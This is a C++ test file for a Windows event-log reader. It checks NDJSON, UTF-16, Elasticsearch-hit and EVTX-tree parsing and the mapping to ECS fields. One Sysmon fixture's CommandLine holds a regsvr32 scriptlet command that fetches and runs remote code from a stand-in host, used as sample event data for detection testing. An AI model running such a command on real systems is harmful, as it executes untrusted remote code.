  lines.push_back("{\"EventID\":1,\"SourceName\":\"Microsoft-Windows-Sysmon\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                  "\"Hostname\":\"WKS5\",\"TimeCreated\":\"2020-10-19 12:29:00.013\",\"UtcTime\":\"2020-10-19 04:29:00.004\"}");
  for (int i = 0; i < 2000; ++i) lines.push_back(security("WKS5", "2020-10-19 12:30:00.000", 3000 + i));
  const std::string content = as_lines(lines);
  ASSERT_GT(content.size(), 1u << 20);
  ASSERT_GT(as_lines({lines.begin(), lines.begin() + static_cast<std::ptrdiff_t>(sysmon)}).size(), 512u << 10);
  TempFile plain(content);
  TempFile compressed(gzip(content), ".ndjson.gz");
  for (const auto& [path, threads] : std::vector<std::pair<std::string, unsigned>>{
           {plain.path, 1u}, {plain.path, 2u}, {compressed.path, 1u}}) {
    FieldRegistry fields;
    ReaderOptions options;
    options.threads = threads;
    EventReader reader(fields, options);
    ReadStats stats;
    std::vector<std::string> times;
    reader.read(path, 0, [&](EventBatch& batch) {
      for (const Event& e : batch.events) times.push_back(e.has_timestamp ? format_timestamp(e.timestamp_ns) : "none");
      return true;
    }, stats);
    ASSERT_EQ(times.size(), lines.size()) << path;
    EXPECT_EQ(times[0], "2020-10-19T04:28:31.089Z") << path << " threads " << threads;
    EXPECT_EQ(times[1], "none") << path;
    EXPECT_EQ(times[2], "2020-10-19T04:28:33.500Z") << path;
    EXPECT_EQ(times[far + 1], "2020-10-19T04:30:00.000Z") << path << " threads " << threads;
    EXPECT_EQ(times[sysmon], "2020-10-19T04:29:00.004Z") << path;
    EXPECT_EQ(times[far], "none") << path;
    EXPECT_EQ(times.back(), "2020-10-19T04:30:00.000Z") << path << " threads " << threads;
  }
}

TEST(NdjsonReader, AByteOrderMarkBeforeADocumentIsSkipped) {
  // Windows PowerShell 5's Out-File -Encoding utf8 starts a file with a UTF-8
  // byte order mark, and files concatenated keep theirs at a line's start:
  // every document is read, none is reported, lines and offsets are the file's.
  const std::string bom = "\xEF\xBB\xBF";
  FieldRegistry fields;
  const FieldId x = fields.intern("x");
  const std::vector<std::string> want{"1", "2", "3"};
  for (const std::string& text : {bom + "{\"x\":1}\n{\"x\":2}\n" + bom + "{\"x\":3}\n",
                                  bom + "{\"x\":1}\r\n" + bom + "\r\n{\"x\":2}\r\n" + bom + "{\"x\":3}"}) {
    TempFile plain(text);             // mapped
    TempFile packed(gzip(text), ".gz");  // streamed
    for (const std::string& path : {plain.path, packed.path}) {
      Collected c = read_all(path, fields, x);
      EXPECT_EQ(c.names, want) << path;
      EXPECT_TRUE(c.stats.diagnostics.empty()) << path << ": " << c.stats.diagnostics[0].reason;
      EXPECT_EQ(c.lines.back(), text.find('\r') == std::string::npos ? 3u : 4u);
    }
  }
  // A JSON array after one; and a flat Windows export is still told by its first document.
  TempFile array(bom + " [{\"x\":1},{\"x\":2},{\"x\":3}]", ".json");
  TempFile packed_array(gzip(bom + "[{\"x\":1},{\"x\":2},{\"x\":3}]\n"), ".gz");
  for (const std::string& path : {array.path, packed_array.path}) {
    Collected c = read_all(path, fields, x);
    EXPECT_EQ(c.names, want) << path;
    EXPECT_TRUE(c.stats.diagnostics.empty()) << path;
  }
  TempFile flat(bom + R"({"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Image":"C:\\w\\a.exe"})" "\n");
  Collected c = read_all(flat.path, fields, fields.intern("process.executable"));
  EXPECT_EQ(c.names, (std::vector<std::string>{R"("C:\\w\\a.exe")"}));
  // Decoded in parts on two threads (more than 1 MB), from every single-pass or not.
  std::string big = bom;
  for (int i = 0; i < 6000; ++i) big += (i == 3000 ? bom : "") + "{\"x\":" + std::to_string(i) + ",\"pad\":\"" + std::string(200, 'p') + "\"}\n";
  TempFile large(big);
  for (bool single_pass : {true, false}) {
    for (unsigned threads : {1u, 2u}) {
      ReadStats stats;
      const auto rows = read_rendered(large.path, fields, single_pass, stats, threads);
      ASSERT_EQ(rows.size(), 6000u);
      EXPECT_EQ(stats.events, 6000u);
      EXPECT_EQ(rows[3000].substr(0, 16), "3001 0 {\"x\":3000");
    }
  }
}

namespace {
// `text` (UTF-8) as UTF-16LE after its byte order mark, as Windows PowerShell 5 writes it.
std::string utf16le_file(std::u32string_view text) {
  std::string out = "\xFF\xFE";
  auto unit = [&out](char32_t u) {
    out.push_back(static_cast<char>(u & 0xff));
    out.push_back(static_cast<char>(u >> 8));
  };
  for (char32_t c : text) {
    if (c >= 0x10000) {
      unit(0xD800 + ((c - 0x10000) >> 10));
      unit(0xDC00 + ((c - 0x10000) & 0x3ff));
    } else {
      unit(c);
    }
  }
  return out;
}
}  // namespace

TEST(NdjsonReader, Utf16JsonIsReadAsItsText) {
  // `Get-WinEvent ... | ConvertTo-Json > events.json` in Windows PowerShell 5
  // writes UTF-16LE: NDJSON or an array, plain or compressed, is read as the
  // same text in UTF-8 would be (a pair of surrogates is one character).
  FieldRegistry fields;
  const FieldId x = fields.intern("x");
  const std::vector<std::string> want{"\"caf\xC3\xA9\"", "\"\xF0\x9F\x94\x91\"", "3"};
  for (const std::u32string& text : {std::u32string(U"{\"x\":\"caf\u00e9\"}\r\n{\"x\":\"\U0001F511\"}\r\n{\"x\":3}\r\n"),
                                    std::u32string(U" [{\"x\":\"caf\u00e9\"},\n{\"x\":\"\U0001F511\"},{\"x\":3}]")}) {
    TempFile plain(utf16le_file(text), ".json");
    TempFile packed(gzip(utf16le_file(text)), ".gz");
    for (const std::string& path : {plain.path, packed.path}) {
      Collected c = read_all(path, fields, x);
      EXPECT_EQ(c.names, want) << path;
      EXPECT_EQ(c.stats.failed_inputs + c.stats.skipped, 0u) << path;
    }
  }
  // A bad line among them is reported by its line, as in UTF-8.
  TempFile bad(utf16le_file(U"{\"x\":1}\n{\"x\":\n{\"x\":3}\n"));
  Collected c = read_all(bad.path, fields, x);
  EXPECT_EQ(c.names, (std::vector<std::string>{"1", "3"}));
  ASSERT_EQ(c.stats.diagnostics.size(), 1u);
  EXPECT_EQ(c.stats.diagnostics[0].line, 2u);
  // UTF-16 text that is neither JSON nor event XML is still refused whole.
  TempFile other(utf16le_file(U"Event log export\r\n"));
  Collected none = read_all(other.path, fields, x);
  EXPECT_TRUE(none.names.empty());
  EXPECT_EQ(none.stats.failed_inputs, 1u);
}

TEST(NdjsonReader, ElasticsearchHitsAreReadFromTheirSource) {
  // elasticdump's lines, `_search` hits (`jq -c '.hits.hits[]'`, or the
  // array `jq '.hits.hits'`): the document is each hit's _source, as the
  // rules that wrote them to Elasticsearch saw it; decided on the first
  // document (it has _index and a _source object), any input shape.
  auto hit = [](int n, const std::string& source) {
    return "{\"_index\":\".ds-logs-windows.sysmon_operational-default\",\"_id\":\"id" + std::to_string(n) +
           "\",\"_score\":1.0,\"_source\":" + source + "}";
  };
  auto doc = [](int n) { return "{\"x\":" + std::to_string(n) + ",\"process\":{\"name\":\"p" + std::to_string(n) + ".exe\"}}"; };
  FieldRegistry fields;
  const FieldId x = fields.intern("x");
  const std::string lines = hit(1, doc(1)) + "\n" + hit(2, doc(2)) + "\n{\"_index\":\"i\",\"_id\":\"3\"}\n" + hit(4, doc(4)) + "\n";
  TempFile plain(lines);
  TempFile packed(gzip(lines), ".gz");
  TempFile array("[" + hit(1, doc(1)) + ",\n " + hit(2, doc(2)) + ",{\"_index\":\"i\"},\n" + hit(4, doc(4)) + "]", ".json");
  for (const std::string& path : {plain.path, packed.path, array.path}) {
    Collected c = read_all(path, fields, x);
    EXPECT_EQ(c.names, (std::vector<std::string>{"1", "2", "4"})) << path;
    EXPECT_EQ(c.lines, (std::vector<std::uint64_t>{1, 2, 4})) << path;
    ASSERT_EQ(c.stats.diagnostics.size(), 1u) << path;
    EXPECT_EQ(c.stats.diagnostics[0].line, 3u);
    EXPECT_NE(c.stats.diagnostics[0].reason.find("not an Elasticsearch hit with a _source object"), std::string::npos);
  }
  // The event's source is the hit's _source (alerts copy it, keyword rules search it).
  {
    TempFile one(hit(7, doc(7)) + "\n");
    EventReader reader(fields);
    ReadStats stats;
    std::vector<std::string> sources;
    reader.read(one.path, 0, [&](EventBatch& batch) {
      for (const Event& e : batch.events) sources.emplace_back(e.source);
      return true;
    }, stats);
    EXPECT_EQ(sources, (std::vector<std::string>{doc(7)}));
  }
  // A flat Windows export kept in Elasticsearch (OTRF's datasets came so) gets its ECS fields.
  TempFile flat(hit(1, R"({"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Image":"C:\\w\\a.exe"})") + "\n");
  EXPECT_EQ(read_all(flat.path, fields, fields.intern("process.executable")).names,
            (std::vector<std::string>{R"("C:\\w\\a.exe")"}));
  // A document with a _source of its own but no _index is a document.
  TempFile not_hits("{\"x\":1,\"_source\":{\"x\":2}}\n");
  EXPECT_EQ(read_all(not_hits.path, fields, x).names, (std::vector<std::string>{"1"}));
  // More than 1 MB, on two threads, with and without the single pass: the same events.
  std::string big;
  for (int i = 0; i < 6000; ++i) big += hit(i, "{\"x\":" + std::to_string(i) + ",\"pad\":\"" + std::string(200, 'p') + "\"}") + "\n";
  TempFile large(big);
  std::vector<std::string> first;
  for (bool single_pass : {true, false}) {
    for (unsigned threads : {1u, 2u}) {
      ReadStats stats;
      const auto rows = read_rendered(large.path, fields, single_pass, stats, threads);
      ASSERT_EQ(rows.size(), 6000u);
      EXPECT_EQ(rows[5999].substr(0, 17), "6000 0 {\"x\":5999,");
      if (first.empty()) first = rows;
      EXPECT_EQ(rows, first);
    }
  }
}

TEST(NdjsonReader, DocumentsOverSeveralLinesAreReadWhole) {
  // `jq .` output, PowerShell's ConvertTo-Json, several documents on a line,
  // an Elasticsearch `_search` response (`curl ...?pretty`): documents found
  // by their brackets (never inside strings), numbered in order, plain or
  // streamed; a truncated last document and text between documents reported.
  FieldRegistry fields;
  const FieldId x = fields.intern("x");
  const std::string pretty =
      "{\n  \"x\": 1,\n  \"s\": \"}{ \\\" ][\"\n}\r\n{\r\n    \"x\":  2\r\n}\n{\"x\":3} {\"x\":4}{\"x\":5}\n";
  const std::string response =
      "{\n  \"took\": 2, \"timed_out\": false, \"_shards\": {\"total\": 1},\n  \"hits\": {\"total\": {\"value\": 2},\n"
      "    \"hits\": [\n      {\"_index\": \"logs\", \"_id\": \"a\", \"_source\": {\"x\": 1}},\n"
      "      {\"_index\": \"logs\", \"_id\": \"b\", \"_source\": {\"x\": 2}}\n    ]\n  }\n}\n";
  std::string compact_response = response;
  std::erase(compact_response, '\n');
  compact_response += "\n" + compact_response + "\n";  // two responses, one per line (paged _search)
  struct Case {
    std::string text;
    std::vector<std::string> names;
    std::vector<std::uint64_t> numbers;
  };
  for (const Case& c : {Case{pretty, {"1", "2", "3", "4", "5"}, {1, 2, 3, 4, 5}},
                        Case{response, {"1", "2"}, {1, 2}},
                        Case{compact_response, {"1", "2", "1", "2"}, {1, 2, 3, 4}}}) {
    TempFile plain(c.text, ".json");
    TempFile packed(gzip(c.text), ".gz");
    for (const std::string& path : {plain.path, packed.path}) {
      Collected got = read_all(path, fields, x);
      EXPECT_EQ(got.names, c.names) << c.text;
      EXPECT_EQ(got.lines, c.numbers) << c.text;
      EXPECT_TRUE(got.stats.diagnostics.empty()) << got.stats.diagnostics[0].reason;
    }
  }
  // A response with a damaged hit: the hits before it are read, the damage reported where it is.
  TempFile damaged("{\n \"took\": 1, \"_shards\": {},\n \"hits\": {\"hits\": [{\"_index\": \"i\", \"_source\": {\"x\": 1}},\n"
                   "  {\"_index\": \"i\", \"_source\": {\"x\": 2}}, ]}}\n", ".json");
  Collected partial = read_all(damaged.path, fields, x);
  EXPECT_EQ(partial.names, (std::vector<std::string>{"1", "2"}));
  ASSERT_EQ(partial.stats.diagnostics.size(), 1u);
  EXPECT_NE(partial.stats.diagnostics[0].reason.find("malformed JSON search response"), std::string::npos)
      << partial.stats.diagnostics[0].reason;
  TempFile bad("{\n \"x\": 1\n}\nnot json\n{\"x\": 3}\n{\n \"x\": 4,\n", ".json");
  Collected got = read_all(bad.path, fields, x);
  EXPECT_EQ(got.names, (std::vector<std::string>{"1", "3"}));
  ASSERT_EQ(got.stats.diagnostics.size(), 2u);
  EXPECT_EQ(got.stats.diagnostics[0].reason, "not a JSON object");
  EXPECT_EQ(got.stats.diagnostics[0].offset, 12u);
  EXPECT_EQ(got.stats.diagnostics[1].reason, "truncated document: the input ends inside it");
  EXPECT_EQ(got.stats.diagnostics[1].offset, 30u);
  // NDJSON stays NDJSON: a bad first line is reported by its number, the next lines read.
  TempFile lines("{\"x\": 1\n{\"x\": 2}\n");
  Collected ndjson = read_all(lines.path, fields, x);
  EXPECT_EQ(ndjson.names, (std::vector<std::string>{"2"}));
  EXPECT_EQ(ndjson.lines, (std::vector<std::uint64_t>{2}));
}

TEST(NdjsonReader, ValueEndFollowsBracketsOutsideStrings) {
  EXPECT_EQ(NdjsonReader::value_end(R"({"a":"}"} x)", 0), 9u);
  EXPECT_EQ(NdjsonReader::value_end(R"({"a":"\"}"})", 0), 11u);
  EXPECT_EQ(NdjsonReader::value_end(R"({"a":"\\"}x)", 0), 10u);
  EXPECT_EQ(NdjsonReader::value_end(R"({"a":[{},[]]})", 0), 13u);
  EXPECT_EQ(NdjsonReader::value_end(R"(  {"a":{}})", 2), 10u);
  EXPECT_EQ(NdjsonReader::value_end(R"({"a":{})", 0), std::string_view::npos);
  EXPECT_EQ(NdjsonReader::value_end(R"({"a":"})", 0), std::string_view::npos);
  EXPECT_EQ(NdjsonReader::value_end("{\"a\\", 0), std::string_view::npos);
  EXPECT_TRUE(NdjsonReader::line_delimited("{\"a\":1}\n{\n"));
  EXPECT_TRUE(NdjsonReader::line_delimited("{\"a\":1"));  // the first line not all read yet
  EXPECT_FALSE(NdjsonReader::line_delimited("\xEF\xBB\xBF\r\n{\r\n"));
  EXPECT_FALSE(NdjsonReader::line_delimited("{ \t\r\n  \"a\": 1\r\n}"));
  EXPECT_TRUE(NdjsonReader::line_delimited("{\"a\":1} {\"a\":2}\n"));  // NDJSON with trailing content on a line
  EXPECT_TRUE(NdjsonReader::line_delimited("{\"a\": \"cut\n{\"a\":2}\n"));  // NDJSON whose first line was cut short
  EXPECT_FALSE(NdjsonReader::line_delimited(R"({"took":1,"_shards":{},"hits":{"hits":[]}})" "\n"));
  EXPECT_TRUE(NdjsonReader::line_delimited(R"({"_shards":{},"hits":{"hits":3}})" "\n"));
}

TEST(NdjsonReader, EventTreesBecomeTheDocumentsTheirRecordsGive) {
  // evtx_dump's lines (also kept in Elasticsearch, under _source) and the Go
  // decoders' shape (System at the top level; Velociraptor's time in epoch
  // seconds): winlog.* and the ECS mapping, as an EVTX record of the event
  // gives; numbers as their text.
  const std::string dump =
      R"({"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{)"
      R"("Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},)"
      R"("EventID":1,"Level":4,"TimeCreated":{"#attributes":{"SystemTime":"2019-03-19T23:34:07.497245Z"}},)"
      R"("EventRecordID":42,"Execution":{"#attributes":{"ProcessID":1920,"ThreadID":2180}},)"
      R"("Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws1.corp","Security":{"#attributes":{"UserID":"S-1-5-18"}}},)"
      R"("EventData":{"ProcessId":5532,"Image":"C:\\Windows\\System32\\regsvr32.exe","CommandLine":"regsvr32 /s /i:http://x/a.sct scrobj.dll","Hashes":null}}})";
  const std::string go =
      R"({"System":{"Provider":{"Name":"Microsoft-Windows-Security-Auditing"},"EventID":{"Qualifiers":"","Value":"4688"},)"
      R"("TimeCreated":{"SystemTime":1553038500.25},"Channel":"Security","Computer":"dc1"},)"
      R"("EventData":{"NewProcessName":"C:\\w\\b.exe","Data":["x"]}})";
  FieldRegistry fields;
  const std::vector<std::string> names{"process.executable", "process.pid", "event.code", "host.name", "@timestamp",
                                       "winlog.record_id", "winlog.event_data.param1", "winlog.event_data.Hashes"};
  std::vector<FieldId> ids;
  for (const auto& n : names) ids.push_back(fields.intern(n));
  auto rendered = [&](const std::string& path) {
    std::vector<std::string> out;
    EventReader reader(fields);
    ReadStats stats;
    reader.read(path, 0, [&](EventBatch& batch) {
      for (const Event& e : batch.events) {
        std::string row;
        for (FieldId id : ids) {
          append_json(row, e.get(id));
          row += " ";
        }
        out.push_back(row);
      }
      return true;
    }, stats);
    EXPECT_TRUE(stats.diagnostics.empty());
    return out;
  };
  const std::vector<std::string> want{
      R"("C:\\Windows\\System32\\regsvr32.exe" 5532 "1" "ws1.corp" "2019-03-19T23:34:07.497245Z" 42 null "" )",
      R"("C:\\w\\b.exe" null "4688" "dc1" "2019-03-19T23:35:00.250Z" null "x" null )"};
  TempFile lines(dump + "\n" + go + "\n");
  TempFile hits(R"({"_index":"evtx","_id":"1","_source":)" + dump + "}\n" + R"({"_index":"evtx","_source":)" + go + "}\n");
  EXPECT_EQ(rendered(lines.path), want);
  EXPECT_EQ(rendered(hits.path), want);
  // An input of ECS documents is not taken for one: a "System" member elsewhere stays where it is.
  TempFile ecs(R"({"event":{"code":"7"},"System":{"EventID":1},"host":{"name":"h"}})" "\n");
  EXPECT_EQ(rendered(ecs.path), (std::vector<std::string>{R"(null null "7" "h" null null null null )"}));
}
